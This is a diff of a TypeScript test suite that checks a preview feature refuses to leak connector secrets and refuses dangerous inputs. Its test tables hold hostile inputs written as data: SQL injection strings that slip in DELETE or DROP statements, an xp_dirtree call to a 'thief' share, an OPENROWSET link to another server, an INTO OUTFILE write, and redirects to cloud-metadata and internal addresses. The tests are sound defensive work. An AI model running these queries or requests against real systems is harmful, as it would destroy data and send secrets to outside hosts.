@@ -100,9 +100,8 @@ describe('secrets in previews', () => {
       variables: { SECRET_OTHER_TOKEN: CANARY },
       settings: { allowedHosts: LOOPBACK },
     });
-    const preview = await previews.documents(api(`${own.url}?page=1`, bearer), AUTHOR, never());
+    const preview = await previews.columns(api(`${own.url}?page=1`, bearer), AUTHOR, never());
     expect(own.requests[0]?.authorization).toBe(`Bearer ${CANARY}`);
-    expect(preview.documents).toHaveLength(1);
     expect(JSON.stringify([preview, lines, events])).not.toContain(CANARY);
     const elsewhere = [api(thief.url, bearer), api(own.url, bearer, 'someone-else')];
     for (const text of elsewhere) {
@@ -144,6 +143,58 @@ describe('secrets in previews', () => {
     expect([opened, server.connections]).toEqual([0, 0]);
     await attempt(['127.0.0.1'], ['people']);
     expect(server.requests[0]?.authorization).toBe(`Bearer ${CANARY}`);
+  });
+});
+
+describe('an author who may use a secret of the merged connector', () => {
+  const bearer = ', secretRef: own-token, auth: { type: bearer }';
+  const oauth = (tokenUrl: string) =>
+    `, oauth: { grantType: client_credentials, tokenUrl: '${tokenUrl}', clientId: c, clientSecretRef: own-token }`;
+  const placeOf = (merged: string) =>
+    previewPlace({
+      folder: folders.make(),
+      merged: { 'people.yaml': merged },
+      variables: { SECRET_OWN_TOKEN: CANARY },
+      settings: { allowedHosts: LOOPBACK },
+    });
+
+  test.each([
+    ['sends no client secret to the API as a token', (url: string) => api(url, bearer)],
+    ['does not make the API its token endpoint', (url: string) => api(url, oauth(url))],
+    [
+      'sends no client secret to the API in a header',
+      (url: string) => api(url, ', secretHeaders: { x-key: own-token }'),
+    ],
+  ])('%s', async (_, draft) => {
+    await using server = await listener();
+    const { previews } = placeOf(api(server.url, oauth('http://127.0.0.1:9/token')));
+    const error = await failureOf(previews.documents(draft(server.url), AUTHOR, never()));
+    expect(error.code).toBe('PREVIEW_SECRET_REFUSED');
+    expect(server.connections).toBe(0);
+  });
+
+  test.each(['Host', 'hOST'])(
+    'sends it to no other customer of the same server with the header %s',
+    async (name) => {
+      await using server = await listener();
+      const { previews } = placeOf(api(server.url, bearer));
+      const draft = api(server.url, `${bearer}, headers: { ${name}: thief.example }`);
+      const error = await failureOf(previews.documents(draft, AUTHOR, never()));
+      expect(error.code).toBe('PREVIEW_REFUSED');
+      expect(server.connections).toBe(0);
+    },
+  );
+
+  test.each([
+    ['the mapping', '', '{{ body | slice: 7, 9 }} {{ body | slice: 16, 40 }}'],
+    ['a computed field', ", fields: { part: '{{ body | slice: 0, 12 }}' }", '{{ part }}'],
+  ])('gets no part of it through a response that repeats it and %s', async (_, more, template) => {
+    await using server = await listener(JSON.stringify([{ id: 1, title: 'a', body: `Bearer ${CANARY}` }]));
+    const { previews } = placeOf(api(server.url, bearer));
+    const draft = api(server.url, bearer + more).replace('{{ body }}', template);
+    const error = await failureOf(previews.documents(draft, AUTHOR, never()));
+    expect(error.code).toBe('PREVIEW_REFUSED');
+    expect(server.requests).toHaveLength(1);
   });
 });
 
@@ -191,6 +242,40 @@ describe('addresses in previews', () => {
     const error = await failureOf(previews.documents(api(server.url), AUTHOR, never()));
     expect(error.code).toBe('SOURCE_REDIRECT');
     expect(target.connections).toBe(0);
+  });
+
+  test('of a redirect to an address that is not allowed have the same message as that address', async () => {
+    const refused = previewPlace({ folder: folders.make() });
+    const { code, message, hint } = await failureOf(
+      refused.previews.documents(api('http://169.254.169.254/'), AUTHOR, never()),
+    );
+    for (const target of [
+      'http://169.254.169.254/latest',
+      'http://[::ffff:a9fe:a9fe]/',
+      'http://10.0.0.1:5432/',
+    ]) {
+      await using server = await listener('', target);
+      const { previews, lines } = previewPlace({
+        folder: folders.make(),
+        settings: { allowedHosts: ['127.0.0.1'] },
+      });
+      const error = await failureOf(previews.documents(api(server.url), AUTHOR, never()));
+      expect({ code: error.code, message: error.message, hint: error.hint }).toEqual({ code, message, hint });
+      expect(lines.join('\n')).toContain('is redirected to http');
+    }
+  });
+});
+
+describe('documents in previews', () => {
+  test('have numbers with all of their digits', async () => {
+    await using server = await listener(
+      '[{"id": 1, "title": "a", "body": "b", "large": 12345678901234567890, "list": [9007199254740993, 7]}]',
+    );
+    const { previews } = previewPlace({ folder: folders.make(), settings: { allowedHosts: LOOPBACK } });
+    const draft = api(server.url).replace("body }}' }", "body }}', metadataFields: [large, list] }");
+    const [document] = (await previews.documents(draft, AUTHOR, never())).documents;
+    expect(JSON.stringify(document?.metadata)).toContain('12345678901234567890');
+    expect(JSON.stringify(document?.metadata)).toContain('9007199254740993');
   });
 });
 
@@ -243,12 +328,33 @@ describe('previews of databases', () => {
   test.each([
     ['native code', 'oracle', 'SELECT id FROM t', ', thick: true'],
     ['several statements', 'mssql', 'SELECT id FROM t; DELETE FROM t', ''],
+    ['a statement after a SELECT', 'mssql', 'SELECT id FROM t DELETE FROM t', ''],
+    ['a statement after a name', 'mssql', 'SELECT 1 AS[id]DELETE FROM t', ''],
+    ['a statement after a number', 'mssql', 'SELECT 1delete FROM t', ''],
+    ['a statement after a float', 'mssql', 'SELECT 1edelete FROM t', ''],
+    ['a statement after a carriage return', 'mssql', 'SELECT 1 AS id --\rDELETE FROM t', ''],
+    ['a new table', 'mssql', 'SELECT id INTO copy FROM t', ''],
+    ['a procedure', 'mssql', "xp_dirtree N'//thief/share'", ''],
+    ['another server', 'mssql', "SELECT * FROM OPENROWSET('SQLNCLI', 'thief'; 'a'; 'b', 'SELECT 1')", ''],
+    ['a merge', 'mssql', 'WITH s AS (SELECT 1 AS id) MERGE t USING s ON 1 = 1 WHEN MATCHED THEN DELETE', ''],
+    ['a file on the server', 'mysql', "SELECT id FROM t INTO/**/OUTFILE '/tmp/x'", ''],
     ['several statements', 'postgres', "SELECT ';' AS id; -- end\n DROP TABLE t", ''],
   ])('refuse %s (%s: %s)', async (_, type, query, more) => {
     const source = `{ type: ${type}, secretRef: db, query: ${JSON.stringify(query)}${more} }`;
     const { previews } = previewPlace({ folder: folders.make(), variables: { SECRET_DB: 'x' } });
     const error = await failureOf(previews.columns(draftText({ source }), AUTHOR, never()));
     expect(error.code).toBe('PREVIEW_REFUSED');
+  });
+
+  test.each([
+    'SELECT [delete], t.id AS "update" FROM t -- drop it',
+    "WITH a AS (SELECT 'insert' AS x) SELECT * FROM a INNER MERGE JOIN b ON a.x = b.x OPTION (USE HINT ('X'), MERGE JOIN)",
+    'SELECT deleted, update_count, @@servername AS s, id2 FROM t ORDER BY 1;',
+  ])('accept the query of SQL Server %s', async (query) => {
+    const source = `{ type: mssql, secretRef: db, query: ${JSON.stringify(query)} }`;
+    const { previews } = previewPlace({ folder: folders.make() });
+    const error = await failureOf(previews.columns(draftText({ source }), AUTHOR, never()));
+    expect(error.code).toBe('PREVIEW_SECRET_REFUSED');
   });
 
   test('refuse a viewer, before anything is recorded or sent', async () => {
